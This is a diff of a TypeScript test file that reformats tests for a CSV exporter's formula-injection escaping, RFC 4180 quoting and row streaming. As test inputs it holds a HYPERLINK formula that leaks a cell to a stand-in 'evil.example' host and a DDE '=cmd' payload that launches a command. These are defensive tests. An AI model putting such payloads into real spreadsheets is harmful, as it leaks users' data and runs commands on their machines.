@@ -13,25 +13,53 @@ async function collect(lines: AsyncIterable<string>): Promise<string> {
 
 describe('csvCell: formula injection', () => {
   it.each([
-    ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`],
-    ['+1+1', "'+1+1"], ['@SUM(A1:A9)', "'@SUM(A1:A9)"], ['-2+3', "'-2+3"], ['-5', "'-5"],
-    ['\t=1+1', "'\t=1+1"], ['\r=1+1', `"'\r=1+1"`], ['=cmd|\' /C calc\'!A0', "'=cmd|' /C calc'!A0"],
+    [
+      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`,
+    ],
+    ['+1+1', "'+1+1"],
+    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+    ['-2+3', "'-2+3"],
+    ['-5', "'-5"],
+    ['\t=1+1', "'\t=1+1"],
+    ['\r=1+1', `"'\r=1+1"`],
+    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
   ])('escapes %j', (input, out) => expect(csvCell(input)).toBe(out));
 
-  it.each([['a=b', 'a=b'], ['1+1', '1+1'], ['mail@example.com', 'mail@example.com'], [' =1', ' =1'], ['', ''], ["'quoted", "'quoted"]])(
-    'leaves %j alone: the formula characters matter only first',
-    (input, out) => expect(csvCell(input)).toBe(out),
-  );
+  it.each([
+    ['a=b', 'a=b'],
+    ['1+1', '1+1'],
+    ['mail@example.com', 'mail@example.com'],
+    [' =1', ' =1'],
+    ['', ''],
+    ["'quoted", "'quoted"],
+  ])('leaves %j alone: the formula characters matter only first', (input, out) => expect(csvCell(input)).toBe(out));
 
   it('never escapes numbers, negative ones included, so spreadsheets can sum them', () => {
-    expect([-37.5, -1, 0, -0, 12.5, 1e21, 1e-7].map(csvCell)).toEqual(['-37.5', '-1', '0', '0', '12.5', '1e+21', '1e-7']);
+    expect([-37.5, -1, 0, -0, 12.5, 1e21, 1e-7].map(csvCell)).toEqual([
+      '-37.5',
+      '-1',
+      '0',
+      '0',
+      '12.5',
+      '1e+21',
+      '1e-7',
+    ]);
     expect(csvCell(null)).toBe('');
-    for (const bad of [Number.NaN, Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY]) expect(() => csvCell(bad)).toThrow(RangeError);
+    for (const bad of [Number.NaN, Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY])
+      expect(() => csvCell(bad)).toThrow(RangeError);
   });
 
   it('prints a fixed-decimal cell padded to its decimals, a negative one unescaped', () => {
-    expect([fixedDecimal(59.9, 2), fixedDecimal(5000, 0), fixedDecimal(12.5, 3), fixedDecimal(-4.5, 2), fixedDecimal(0, 2)].map(csvCell))
-      .toEqual(['59.90', '5000', '12.500', '-4.50', '0.00']);
+    expect(
+      [
+        fixedDecimal(59.9, 2),
+        fixedDecimal(5000, 0),
+        fixedDecimal(12.5, 3),
+        fixedDecimal(-4.5, 2),
+        fixedDecimal(0, 2),
+      ].map(csvCell),
+    ).toEqual(['59.90', '5000', '12.500', '-4.50', '0.00']);
     expect(() => csvCell(fixedDecimal(Number.NaN, 2))).toThrow(RangeError);
   });
 });
@@ -46,11 +74,19 @@ describe('csvLine: RFC 4180', () => {
 
   it('round-trips through a CSV parser, with only the formula cells changed', () => {
     const text = fc.string({ unit: 'binary', maxLength: 20 });
-    fc.assert(fc.property(fc.array(fc.oneof(text, fc.integer(), fc.constant(null)), { minLength: 1, maxLength: 6 }), (cells) => {
-      const [parsed] = parse(csvLine(cells), { relax_quotes: false, record_delimiter: '\r\n' }) as string[][];
-      const expected = cells.map((c) => (c === null ? '' : typeof c === 'number' ? String(c) : /^[=+\-@\t\r]/.test(c) ? `'${c}` : c));
-      expect(parsed).toEqual(expected);
-    }), { numRuns: 500 });
+    fc.assert(
+      fc.property(
+        fc.array(fc.oneof(text, fc.integer(), fc.constant(null)), { minLength: 1, maxLength: 6 }),
+        (cells) => {
+          const [parsed] = parse(csvLine(cells), { relax_quotes: false, record_delimiter: '\r\n' }) as string[][];
+          const expected = cells.map((c) =>
+            c === null ? '' : typeof c === 'number' ? String(c) : /^[=+\-@\t\r]/.test(c) ? `'${c}` : c,
+          );
+          expect(parsed).toEqual(expected);
+        },
+      ),
+      { numRuns: 500 },
+    );
   });
 });
 
@@ -62,7 +98,17 @@ describe('csvRows', () => {
     }
     const expected = `${CSV_BOM}code,note,net_sales\r\ncode_1,'=1+1,-4.5\r\ncode_2,ok,10\r\n`;
     expect(await collect(csvRows(['code', 'note', 'net_sales'], rows()))).toBe(expected);
-    expect(await collect(csvRows(['code', 'note', 'net_sales'], [['code_1', '=1+1', -4.5], ['code_2', 'ok', 10]]))).toBe(expected);
+    expect(
+      await collect(
+        csvRows(
+          ['code', 'note', 'net_sales'],
+          [
+            ['code_1', '=1+1', -4.5],
+            ['code_2', 'ok', 10],
+          ],
+        ),
+      ),
+    ).toBe(expected);
     expect(await collect(csvRows(['only', '@header'], []))).toBe(`${CSV_BOM}only,'@header\r\n`);
   });
 
